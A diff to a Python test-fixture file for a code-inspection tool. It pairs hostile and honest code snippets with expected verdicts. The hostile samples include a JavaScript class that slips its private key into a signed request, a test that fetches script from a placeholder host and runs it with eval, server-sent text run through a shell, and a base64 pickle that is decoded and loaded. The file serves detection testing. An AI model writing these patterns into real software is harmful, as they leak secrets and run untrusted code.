@@ -1,29 +1,65 @@
 """Values that pass through one function of an honest project and are told apart, as an attacker's there would be."""
 
-from inspection.rules.sample import Sample
+from inspection.rules.sample import Sample, py
 
 _SHELL = (
     "import subprocess\ndef run(words, shell=False):\n    if shell:\n        words = ['/bin/sh', '-c', words]\n"
     "    return subprocess.Popen(words)\n"
 )
 _FETCH = "import requests\nfrom runner import run\nreply = requests.get('https://a.invalid').json()\n"
+_SPEC = (
+    "function load(name) {\n  const req = new XMLHttpRequest();\n  req.open('GET', `%s${name}`, false);\n"
+    "  req.send();\n  return req.responseText;\n}\neval(load('index.js'));\n"
+)
 _UNPACK = "import base64, pickle\ndef unpack(x):\n    return pickle.loads(base64.b64decode(x.encode('ascii')))\n"
 
+_GRANT = (
+    "const crypto = require('crypto');\n"
+    "const https = require('https');\n"
+    "class Grant {\n"
+    "  constructor(options) { this.options = options; }\n"
+    "  plain(data) { if (typeof data === 'string') { data = Buffer.from(data); } return data.toString('base64'); }\n"
+    "  signed(claims) {\n"
+    "    const said = ['{\"alg\":\"RS256\"}', JSON.stringify(claims)].map(each => this.plain(each)).join('.');\n"
+    "    return said + '.' + this.plain(crypto.createSign('RSA-SHA256').update(said).sign(this.options.privateKey));\n"
+    "  }\n"
+    "  ask(done) { https.request(this.options.url, { method: 'POST' }, done).end(this.signed({ iat: 1 })); }\n"
+    "}\n"
+    "module.exports = Grant;\n"
+)
+
 HOSTILE: dict[str, dict[str, Sample]] = {
+    "secrets_sent": {
+        "a key that goes with the grant, by helpers that others call too": Sample(
+            {"grant.js": _GRANT.replace("JSON.stringify(claims)", "JSON.stringify([claims, this.options.privateKey])")},
+            "review",
+            ("grant.js", 10),
+        ),
+    },
     "remote_code": {
+        "a test asks another server than its page's": Sample(
+            {"search.spec.js": _SPEC % "//a.invalid/"}, "review", ("search.spec.js", 7)
+        ),
+        "a page asks its own server": Sample({"search.js": _SPEC % "fixtures/"}, "block", ("search.js", 7)),
         "a script that a server sends, for a function that also takes words": Sample(
             {"runner.py": _SHELL, "app.py": _FETCH + "run(reply['script'], shell=True)\n"}, "block", ("app.py", 3)
         ),
     },
     "decoded_code": {
-        "a constant that a function decodes and loads": Sample(
-            {"app.py": _UNPACK + "unpack('Y2J1aWx0aW5zCnByaW50CihWaGVsbG8KdFIu')\n"}, "review", ("app.py", 3)
+        "a constant that is encoded, decoded and loaded": py(
+            "import base64, pickle\ntext = 'Y2J1aWx0aW5zCnByaW50CihWaGVsbG8KdFIu'\n"
+            "pickle.loads(base64.b64decode(text.encode('ascii')))\n",
+            "review",
         ),
     },
 }
 
 HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
+    "secrets_sent": {
+        "a grant that is signed with a key, by helpers that others call too": {"grant.js": _GRANT},
+    },
     "remote_code": {
+        "a test that nothing starts asks the server of its page": {"search.spec.js": _SPEC % "fixtures/"},
         "a word that a server sends, for a function that also takes scripts": {
             "runner.py": _SHELL,
             "app.py": _FETCH + "run(['gpg', '--export', reply['finger']])\n",
